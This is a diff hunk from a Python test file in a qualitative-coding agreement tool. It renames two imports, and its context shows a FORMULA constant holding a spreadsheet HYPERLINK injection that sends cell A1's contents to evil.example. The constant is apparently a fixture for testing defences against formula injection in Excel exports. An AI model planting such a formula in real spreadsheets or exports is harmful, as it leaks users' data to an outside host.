@@ -11,8 +11,8 @@ from pathlib import Path
 import openpyxl
 from sklearn.metrics import cohen_kappa_score
 
-from ptce_coding.project import find_project
-from ptce_coding.records import Coding
+from ptce_coding.app.project import find_project
+from ptce_coding.base.records import Coding
 from tests.test_agreement_cli import segment_spans, write_codings
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
